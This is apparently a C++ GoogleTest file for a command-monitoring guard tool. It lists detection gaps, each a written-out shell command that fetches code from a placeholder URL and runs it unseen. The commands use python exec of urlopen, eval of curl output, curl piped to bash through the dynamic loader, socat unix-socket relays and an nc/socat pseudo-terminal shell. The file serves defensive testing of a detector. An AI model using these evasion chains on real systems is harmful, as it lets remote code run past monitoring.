// SPDX-License-Identifier: Apache-2.0
// What docs/limits.md says is not caught, shown: each of these runs code from the network, in kill
// mode, unseen. A case that is caught one day fails here, and moves to the attacks.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "chain_site.h"

namespace davylamp::test {
namespace {

using testing::IsEmpty;

struct Limit {
    const char* name;
    const char* command;
    bool alone = false;
};

void PrintTo(const Limit& limit, std::ostream* stream) { *stream << limit.name; }

const Limit kLimits[] = {
    {"an interpreter that fetches and runs by itself",
     "/usr/bin/python3 -c 'import urllib.request as u; exec(u.urlopen(\"@PYTHON_URL\").read())'"},
    {"eval of the shell's own commands alone, in dash", "dash -c 'eval \"$(curl -s @URL)\"'"},
    {"a dot in dash, of the shell's own commands alone", "curl -s -o @D/f @URL; dash -c '. @D/f'",
     true},
    {"the shell's own commands alone, below a loader",
     "curl -s @URL | /lib64/ld-linux-x86-64.so.2 /bin/bash"},
    {"text that the shell has rewritten", "x=$(curl -s @URL); eval \"true; ${x/echo/printf %s}\""},
    {"a program in a file that fetches a script and runs it",
     "printf '%s\\n' 'import os, sys, urllib.request as u' "
     "'u.urlretrieve(sys.argv[1], sys.argv[2])' 'os.system(\"sh \" + sys.argv[2])' > @D/d.py; "
     "/usr/bin/python3 @D/d.py @URL @D/f",
     true},
    {"a program that runs a script it brought", "@SERVICE /x.sh @D/f", true},
    {"a module that python imports",
     "curl -s -o @D/m.py @PYTHON_URL; cd @D; /usr/bin/python3 -c 'import m'", true},
    {"a relay on a unix socket",
     "curl -s @URL | socat -u - UNIX-LISTEN:@D/s & until [ -e @D/s ]; do sleep 0.05; done; "
     "socat -u UNIX-CONNECT:@D/s - | bash"},
    {"a shell on a pseudo-terminal",
     "(cat @D/local.sh; echo exit) | timeout 9 nc -l -p @PORT > /dev/null & timeout 9 socat "
     "TCP:127.0.0.1:@PORT,retry=80,interval=0.1 EXEC:bash,pty,stderr,setsid; wait"},
};

class ChainLimit : public testing::TestWithParam<Limit> {};

TEST_P(ChainLimit, IsNotSeen)
{
    ChainSite site;
    GuardOptions options;
    options.mode = Mode::kill;
    options.command = bash(site.fill(GetParam().command));
    // Some are seen by a guard that has reason to look: what another one fetched lies not long
    // back. They have a guard each, and so have those that fetch to a file. `{}` is the built-in
    // policy, in a guard that the others share and no attack does.
    options.policy = "{}";
    options.alone = GetParam().alone;
    GuardResult result = run_guard(options);
    EXPECT_TRUE(exists(site.marker())) << "the code did not run: " << result.err;
    EXPECT_THAT(result.codes(), IsEmpty()) << result.out;
}

INSTANTIATE_TEST_SUITE_P(Live, ChainLimit, testing::ValuesIn(kLimits),
                         [](const auto& test) { return test_name(test.param.name, Mode::kill); });

} // namespace
} // namespace davylamp::test
